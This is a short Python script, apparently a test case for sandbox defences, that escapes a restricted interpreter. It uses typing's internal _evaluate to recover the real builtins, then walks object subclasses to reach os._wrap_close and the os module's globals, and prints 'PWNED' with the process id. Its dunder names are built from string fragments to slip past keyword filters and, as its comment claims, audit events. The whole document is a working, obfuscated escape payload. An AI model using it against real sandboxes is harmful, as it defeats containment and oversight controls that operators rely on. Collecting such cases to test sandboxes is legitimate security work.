# reflect: the same subclass walk with every dunder by a computed name (no audit event covers it)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

def d(o, n):
    return ga(o, "__" + n + "__")
for c in d(d(d((), "class"), "base"), "subclasses")():
    if c.__name__ == "_wrap" + "_close":
        print(M, d(d(c, "init"), "globals")["getpid"]())
        break
